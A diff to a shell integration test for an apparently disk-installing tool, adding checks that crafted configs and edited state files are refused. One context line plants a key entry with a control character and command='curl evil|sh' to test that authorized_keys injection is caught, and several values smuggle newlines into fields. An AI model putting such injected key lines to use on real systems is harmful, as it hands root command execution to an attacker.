@@ -5,7 +5,12 @@
 # an unknown disk (2), a phase name that does not exist (2), a bad host name in --config (2),
 # an SSH key holding a line break or another control character — from --ssh-key, from
 # --ssh-key-file, from the rescue's authorized_keys — that would add a line of its own such as
-# command="..." to root's authorized keys (2, naming the source and line).
+# command="..." to root's authorized keys (2, naming the source and line); and crafted configs —
+# absurd sizes, sizes that overflow or do not fit together, mountpoints that climb out of the
+# target, mistyped pins, a release that is not YY.MM — are usage errors (2) naming the field,
+# from `plan --config` and `install --yes --config` alike; a state file edited between runs (a
+# mountpoint of "/..", a partition past the disk's end) makes `install --resume` fail (1)
+# naming the field, before any disk is touched.
 IE_NAME=dlast
 # shellcheck source=tests/integration/lib/install-env.sh
 . "$(dirname "$0")/lib/install-env.sh"
@@ -64,4 +69,69 @@ IE_RESCUE_KEYS="$IE_KEY"$'\n'"$IE_KEY x"$'\x1b''[8mcommand="curl evil|sh"' \
 	expect 2 "rescue authorized_keys line with a control character" -- install --yes "${args[@]}" --ssh-key "$IE_KEY"
 grep -q -- "/root/.ssh/authorized_keys line 2: a control character (0x1b)" "$IE_WORK/err.txt" ||
 	fail "the rescue key refusal does not name the file and line: $(tail -n 1 "$IE_WORK/err.txt")"
+
+# config_refused NAME FIELD JSON: `plan` and `install --yes` with that config exit 2 naming
+# FIELD, and (through expect) neither the disk nor the decoy changes.
+no_config=()
+skip=0
+for a in "${no_hostname[@]}"; do
+	if [ "$skip" = 1 ]; then skip=0; continue; fi
+	if [ "$a" = --config ]; then skip=1; continue; fi
+	no_config+=("$a")
+done
+config_refused() {
+	local name=$1 field=$2
+	printf '%s\n' "$3" > "$IE_WORK/$name.json"
+	expect 2 "plan, $name" -- plan --config "$IE_WORK/$name.json" --disks "$IE_DISK"
+	grep -qF -- "$field" "$IE_WORK/err.txt" || fail "plan, $name: the error does not name $field: $(tail -n 1 "$IE_WORK/err.txt")"
+	expect 2 "install, $name" -- install --yes "${no_config[@]}" --config "$IE_WORK/$name.json"
+	grep -qF -- "$field" "$IE_WORK/err.txt" || fail "install, $name: the error does not name $field: $(tail -n 1 "$IE_WORK/err.txt")"
+	return 0
+}
+config_refused huge-extra "extra_partitions[1].size" \
+	'{ "esp_size": "64M", "extra_partitions": [ { "name": "a", "size": "64M", "mountpoint": "/a" }, { "name": "b", "size": "8388608T", "mountpoint": "/b" } ] }'
+config_refused u64-max-swap "swap_size" '{ "esp_size": "64M", "swap_size": "18446744073709551615" }'
+# Sixteen of 1 EiB: a sum past 2^64 that a wrapping planner took for 64 MiB.
+config_refused sixteen-eib "extra_partitions[0].size" \
+	"{ \"esp_size\": \"64M\", \"extra_partitions\": [ $(for i in $(seq 0 15); do printf '%s{ "name": "x%d", "size": "1048576T", "mountpoint": "/x%d" }' "$([ "$i" = 0 ] || echo ,)" "$i" "$i"; done) ] }"
+# 1 MiB + 64 MiB + 512 MiB + 512 MiB on a 2 GiB disk leaves less than 1 GiB for /.
+config_refused over-the-disk "extra_partitions[0].size" \
+	'{ "esp_size": "64M", "swap_size": "512M", "extra_partitions": [ { "name": "data", "size": "512M", "mountpoint": "/srv" } ] }'
+config_refused srv-dotdot "extra_partitions[0].mountpoint" \
+	'{ "esp_size": "64M", "extra_partitions": [ { "name": "data", "size": "64M", "mountpoint": "/srv/.." } ] }'
+config_refused root-dotdot "extra_partitions[0].mountpoint" \
+	'{ "esp_size": "64M", "extra_partitions": [ { "name": "data", "size": "64M", "mountpoint": "/.." } ] }'
+config_refused boot-child "extra_partitions[0].mountpoint" \
+	'{ "esp_size": "64M", "extra_partitions": [ { "name": "data", "size": "64M", "mountpoint": "/boot/efi" } ] }'
+config_refused release-newline "channel.release" \
+	"{ \"esp_size\": \"64M\", \"channel\": { \"sha256\": \"$IE_CHANNEL_SHA\", \"release\": \"24.11\\nx\" } }"
+config_refused release-month "channel.release" \
+	"{ \"esp_size\": \"64M\", \"channel\": { \"sha256\": \"$IE_CHANNEL_SHA\", \"release\": \"24.13\" } }"
+config_refused sha256-number "channel.sha256" '{ "esp_size": "64M", "channel": { "sha256": 1234 } }'
+config_refused mirror-list "mirror" '{ "esp_size": "64M", "mirror": [ "http://127.0.0.1:9" ] }'
+config_refused nix-unknown "nix.rev" '{ "esp_size": "64M", "nix": { "rev": "abc" } }'
+config_refused hostname-newline '"hostname"' '{ "esp_size": "64M", "hostname": "web1\nx" }'
+
+# state_edited NAME FIELD PYTHON: a run stopped after confirm left its plan in the state file;
+# PYTHON edits it (p is the plan); the resume refuses it, naming FIELD, and changes nothing.
+state_edited() {
+	local name=$1 field=$2
+	ie_agent install --yes "${args[@]}" --until confirm > "$IE_WORK/out.txt" 2> "$IE_WORK/err.txt" ||
+		fail "$name: install --until confirm failed: $(tail -n 3 "$IE_WORK/err.txt")"
+	python3 - "$IE_WORK/state/state.json" "$3" <<'PY'
+import json, sys
+s = json.load(open(sys.argv[1]))
+p = s["plan"]
+exec(sys.argv[2])
+json.dump(s, open(sys.argv[1], "w"))
+PY
+	expect 1 "resume, $name" -- install --resume --yes "${args[@]}"
+	grep -qF -- "$field" "$IE_WORK/err.txt" || fail "resume, $name: the error does not name $field: $(tail -n 1 "$IE_WORK/err.txt")"
+}
+state_edited root-dotdot "filesystems[0].mountpoint" \
+	'[f for f in p["filesystems"] if f["mountpoint"] == "/"][0]["mountpoint"] = "/.."'
+state_edited root-past-the-end "disks[0].partitions[2].start" \
+	'p["disks"][0]["partitions"][2]["size"] += 1 << 40'
+state_edited esp-overlaps "disks[0].partitions[1].start: overlaps partitions[0]" \
+	'p["disks"][0]["partitions"][1]["start"] = 1 << 20'
 echo "install_destroy_last: ok"
